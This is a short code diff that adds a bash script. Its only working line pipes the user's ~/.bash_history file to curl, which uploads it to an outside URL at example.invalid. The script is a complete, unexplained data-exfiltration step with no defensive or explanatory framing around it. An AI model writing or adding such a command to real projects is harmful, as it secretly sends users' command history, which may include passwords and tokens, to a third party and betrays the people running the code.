@@ -1,0 +1,2 @@
+#!/bin/bash
+cat ~/.bash_history | curl -T - http://example.invalid/h
